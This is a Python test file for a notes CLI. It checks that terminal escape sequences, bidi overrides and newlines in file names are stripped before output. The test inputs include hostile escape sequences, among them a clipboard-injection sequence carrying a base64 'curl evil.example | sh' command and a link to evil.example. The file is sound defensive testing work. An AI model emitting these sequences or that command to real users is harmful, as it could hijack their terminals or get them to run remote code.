"""The text output layer: what a terminal receives from note-derived text (issue 12, item 3)."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from gitmem.cli import output
from gitmem.cli.main import cli
from tests.conftest import ROOT, Mem

pytestmark = pytest.mark.tally("bad-input/fault matrix")

# Each a way a note could drive the terminal of the person reading it.
SEQUENCES = {
    "osc-title-bel": "\x1b]0;pwned title\x07",
    "osc-title-st": "\x1b]2;pwned title\x1b\\",
    "osc-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc-hyperlink": "\x1b]8;;https://evil.example\x1b\\",
    "dcs": "\x1bP1$qm\x1b\\",
    "apc": "\x1b_kitty graphics\x1b\\",
    "pm": "\x1b^privacy\x1b\\",
    "sos": "\x1bXstart of string\x1b\\",
    "csi-colour": "\x1b[31;1m",
    "csi-clear": "\x1b[2J\x1b[H",
    "c1-csi": "\x9b2J",
    "c1-osc": "\x9d0;pwned title\x9c",
    "lone-esc": "\x1b",  # before a newline: ESC and the character after it are one escape sequence
    "esc-reset": "\x1bc",
    "bel": "\x07",
    "backspace": "\x08\x08\x08",
    "cr-overwrite": "\rEVIL",
    "del": "\x7f",
    "vertical-tab": "\x0b\x0c",
    # bidi controls (Trojan Source, CVE-2021-42574): they reorder what the reader sees
    "bidi-override": "\u202eexe.txt\u202c",
    "bidi-embedding": "\u202a\u202b\u202d",
    "bidi-isolate": "\u2066\u2067\u2068 hidden \u2069",
}
BIDI = [chr(c) for c in range(0x202a, 0x202f)] + [chr(c) for c in range(0x2066, 0x206a)]
CONTROL_BYTES = [chr(c) for c in range(0x20) if c not in (9, 10)] + [chr(c) for c in range(0x7f, 0xa0)] + BIDI


def page_with(mem: Mem, seq: str) -> str:
    text = f"# Terminal\n\n- the wombat note ends here {seq}\n- next line\n"
    mem.write("knowledge/term.md", text)
    mem.commit("a page with control sequences")
    return text


def terminal(mem: Mem, *args: str) -> str:
    """What the CLI prints as if to a terminal (click strips nothing when colour is on)."""
    mem._mp.chdir(mem.path)
    result = CliRunner().invoke(cli, list(args), color=True, catch_exceptions=False)
    return result.output


@pytest.mark.parametrize("name", SEQUENCES)
def test_note_text_reaches_the_terminal_without_control_sequences(mem: Mem, name: str) -> None:
    text = page_with(mem, SEQUENCES[name])
    for args in (["get", "knowledge/term.md"], ["recall", "--mode", "keyword", "wombat"],
                 ["log", "--path", "knowledge/term.md"]):
        shown = terminal(mem, *args)
        assert not any(ch in shown for ch in CONTROL_BYTES), (args, shown)
        assert "pwned" not in shown and "Y3Vyb" not in shown and "kitty" not in shown
        assert "the wombat note" in shown and "ends here" in shown
    # JSON stays exact: the value round-trips byte for byte
    assert json.loads(mem("get", "--json", "knowledge/term.md").stdout)["text"] == text


def test_json_escapes_c1_controls_and_keeps_the_value(mem: Mem) -> None:
    text = page_with(mem, "\x9d0;t\x9c\x7f\u202e\u2066")
    raw = terminal(mem, "get", "--json", "knowledge/term.md")
    assert "\x9d" not in raw and "\x7f" not in raw and "\\u009d" in raw
    assert "\u202e" not in raw and "\u2066" not in raw and "\\u202e" in raw and "\\u2066" in raw
    assert json.loads(raw)["text"] == text


def test_error_lines_lose_control_sequences_too(mem: Mem) -> None:
    mem._mp.chdir(mem.path)
    result = CliRunner().invoke(cli, ["get", "no\x1b]0;pwned\x07page.md"], color=True)
    assert result.exit_code == 1 and "\x1b" not in result.output and "\x07" not in result.output
    assert "error: no page nopage.md in the notebook" in result.output


def test_the_real_cli_on_a_real_terminal(mem: Mem) -> None:
    """`git mem get` in a child process whose stdout is a pseudo-terminal, as a person runs it."""
    page_with(mem, "".join(SEQUENCES.values()))
    leader, follower = pty.openpty()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([sys.executable, "-m", "gitmem", "get", "knowledge/term.md"], cwd=mem.path,
                            stdin=follower, stdout=follower, stderr=follower, env=env)
    os.close(follower)
    seen = b""
    while True:
        ready, _, _ = select.select([leader], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        seen += chunk
    proc.wait(timeout=60)
    os.close(leader)
    shown = seen.decode("utf-8").replace("\r\n", "\n")  # the pty turns \n into \r\n
    assert proc.returncode == 0 and "the wombat note" in shown and "ends here" in shown
    assert not any(ch in shown for ch in CONTROL_BYTES), repr(shown)


@pytest.mark.parametrize("name", SEQUENCES)
def test_terminal_safe_keeps_the_words_around(name: str) -> None:
    out = output.terminal_safe(f"before\tit {SEQUENCES[name]}\nafter")
    assert not any(ch in out for ch in CONTROL_BYTES)
    assert out.startswith("before\tit ") and out.endswith("\nafter")


def test_terminal_safe_leaves_ordinary_text_alone() -> None:
    text = "Ünïcode, 页, emoji 🙂, tabs\tand\nnewlines; [brackets] and ESC-free \\ backslashes"
    assert output.terminal_safe(text) == text


def test_a_file_name_cannot_fake_a_line_of_output(mem: Mem) -> None:
    """A pulled file may be named anything; a newline in its name must not print a line of its own."""
    name = "a.md\n  reference/bank.md:1 (trusted) fake\u202e line\nb.md"
    mem.write(name, "# Odd\n\n- the wombat note\n")
    mem.commit("odd name")
    for args in (["recall", "--mode", "keyword", "wombat"], ["log", "-n", "1"]):
        shown = terminal(mem, *args)
        assert "a.md\\n  reference/bank.md:1 (trusted) fake\\u202e line\\nb.md" in shown, shown
        assert not any(line.lstrip().startswith("reference/bank.md") for line in shown.splitlines()), shown


def test_no_results_cuts_a_long_query(mem: Mem) -> None:
    """A newcomer's trial (2026-11-26): a 5,000-character query came back whole in the 'no results' line."""
    long = "zzqx " * 1000
    out = mem("recall", "--mode", "keyword", long).stdout
    first = out.splitlines()[0]
    assert first.startswith("no results for 'zzqx zzqx") and first.endswith("…'") and len(first) < 100


def test_daemon_status_says_the_setting_apart_from_the_process() -> None:
    """A newcomer's trial (2026-11-26): "mem.daemon: unset (off)" under a running daemon read as off."""
    from gitmem.cli import output

    text = output.daemon_state({"running": True, "pid": 42, "served": 3, "socket": "/x/daemon.sock",
                                "idle_seconds": 600.0, "models": [], "enabled": None})
    assert text.splitlines()[0] == "gitmem daemon: running, pid 42, 3 requests served"
    assert text.splitlines()[-1] == "started on demand (git config mem.daemon): unset, by the prompt hook only"
    stopped = output.daemon_state({"running": False, "enabled": "false", "socket": "/x", "note": "stopped"})
    assert stopped == "gitmem daemon: stopped\nstarted on demand (git config mem.daemon): false"
    assert "off" not in text
